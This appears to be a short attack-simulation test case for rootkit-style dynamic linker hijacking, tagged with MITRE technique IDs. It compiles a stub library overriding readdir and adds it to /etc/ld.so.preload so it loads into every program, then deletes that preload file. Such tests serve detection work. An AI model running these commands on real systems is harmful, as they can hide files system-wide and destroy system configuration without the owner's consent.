# title: A library that hides files is loaded into all programs
# technique: T1014 T1574.006
# needs: cc

printf 'int readdir(void){return 0;}\n' >/tmp/h.c && cc -shared -fPIC -o /usr/local/lib/libprocess.so /tmp/h.c
echo /usr/local/lib/libprocess.so >>/etc/ld.so.preload; rm /etc/ld.so.preload
